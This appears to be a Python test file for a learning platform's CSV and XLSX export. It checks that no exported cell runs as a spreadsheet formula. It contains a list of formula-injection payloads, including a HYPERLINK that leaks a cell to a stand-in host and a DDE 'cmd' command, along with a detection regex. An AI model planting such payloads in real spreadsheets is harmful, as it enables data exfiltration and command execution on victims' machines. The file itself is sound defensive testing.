"""Spreadsheets that go out: no cell is run as a formula, whatever somebody wrote; and a twin that lets it through.

The readers here are others' (the csv module, calamine); `runs` says what a spreadsheet would do with a cell.
"""

import csv
import io
import re
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from lms.sheets import read_sheet
from lms.tables import Rows, csv_file, xlsx_file

HOSTILE = (
    "=1+1",
    '=HYPERLINK("https://kwaad.example/?"&A1;"Klik")',
    "=cmd|' /C calc'!A0",
    "+31 6 12345678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "%windir%",
    "|calc",
    "rustig, =1+1",
    "rustig\t=1+1",
    'rustig","=1+1',
)
FORMULA = re.compile(r"[=+\-@|%\uff1d\uff0b\uff0d\uff20]")


def runs(cell: str) -> bool:
    """Whether a spreadsheet would take this for more than text: it looks past what cannot be seen."""
    return FORMULA.match(re.sub(r"^[\s\x00-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\ufeff]+", "", cell)) is not None


def cells(data: bytes) -> list[str]:
    """As they are found by a program that splits at semicolons, and by one that was set to commas or tabs."""
    text = data.decode("utf-8-sig")
    found = []
    for separator in ";,\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            found += row
    return found


def naive_csv(rows: Rows) -> bytes:
    """The twin: what one writes without thinking."""
    target = io.StringIO(newline="")
    csv.writer(target, delimiter=";").writerows(rows)
    return target.getvalue().encode("utf-8-sig")


@pytest.mark.parametrize("hostile", HOSTILE)
def test_no_cell_of_a_csv_is_run(hostile: str) -> None:
    assert not [cell for cell in cells(csv_file([["Vraag", "Opmerking"], ["v1", hostile]])) if runs(cell)]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_twin_runs_it(hostile: str) -> None:
    assert [cell for cell in cells(naive_csv([["Vraag", "Opmerking"], ["v1", hostile]])) if runs(cell)]


NASTY = st.text(alphabet="=+-@;,\"' \t\na1")


@given(
    st.lists(
        st.lists(st.one_of(st.text(), NASTY, st.integers(0, 9999)), min_size=1, max_size=4), min_size=1, max_size=4
    )
)
def test_no_text_at_all_is_run(rows: list[list[str | int]]) -> None:
    """Every cell is text that begins nothing, and each row is one row."""
    data = csv_file(rows)
    assert not [cell for cell in cells(data) if runs(cell)]
    found = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [len(row) for row in found] == [len(row) for row in rows]


def test_plain_words_stay_as_they_are() -> None:
    rows: Rows = [["Onderdeel", "Aantal"], ["Zoë’s vraag: 5 V; of 3,3 V?", 12], ["", None]]
    found = list(csv.reader(io.StringIO(csv_file(rows).decode("utf-8-sig")), delimiter=";"))
    assert found == [["Onderdeel", "Aantal"], ["Zoë’s vraag: 5 V; of 3,3 V?", "12"], ["", ""]]
    sheet = read_sheet(csv_file(rows))
    assert (sheet.headings, sheet.rows[0]) == (("Onderdeel", "Aantal"), ("Zoë’s vraag: 5 V; of 3,3 V?", "12"))


def test_a_workbook_is_read_by_another_program_with_every_text_as_text() -> None:
    data = xlsx_file({"Vragen": [["Opmerking", 3], *([each, None] for each in HOSTILE)], "Leeg / [2]": []})
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert book.sheet_names == ["Vragen", "Leeg 2"]
    rows = book.get_sheet_by_name("Vragen").to_python()
    assert rows[0] == ["Opmerking", 3.0]
    assert [row[0] for row in rows[1:4]] == [HOSTILE[0], HOSTILE[1], HOSTILE[2]]


def formulas(data: bytes) -> list[str]:
    """Cells of a workbook that hold a formula, or text that becomes one when the cell is touched."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        kept = re.findall(r"<xf\b[^>]*/>", archive.read("xl/styles.xml").decode().partition("<cellXfs")[2])
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                for cell in re.findall(r"<c\b.*?</c>", archive.read(name).decode(), re.S):
                    style = re.search(r'\bs="(\d+)"', cell)
                    safe = style is not None and 'quotePrefix="1"' in kept[int(style[1])]
                    if "<f>" in cell or not ("inlineStr" in cell and safe):
                        found.append(cell)
    return found


def test_no_cell_of_a_workbook_is_a_formula() -> None:
    assert formulas(xlsx_file({"Vragen": [[each] for each in HOSTILE]})) == []


def test_the_twin_of_a_workbook_makes_formulas() -> None:
    """The twin: as libraries do that take a text with = for a formula, in a style that forgets it was text."""
    data = xlsx_file({"Vragen": [["=1+1"]]})
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(target, "w") as twin:
        for name in source.namelist():
            body = source.read(name).decode()
            twin.writestr(name, re.sub(r"<c .*?</c>", "<c><f>1+1</f></c>", body))
    assert formulas(target.getvalue()) == ["<c><f>1+1</f></c>"]


def test_markup_and_signs_that_xml_forbids_do_no_harm() -> None:
    data = xlsx_file({"A & <B>": [["<t>&amp;</t>\x08\x00 ]]>", 'a"b']]})
    rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    assert rows == [["<t>&amp;</t> ]]>", 'a"b']]
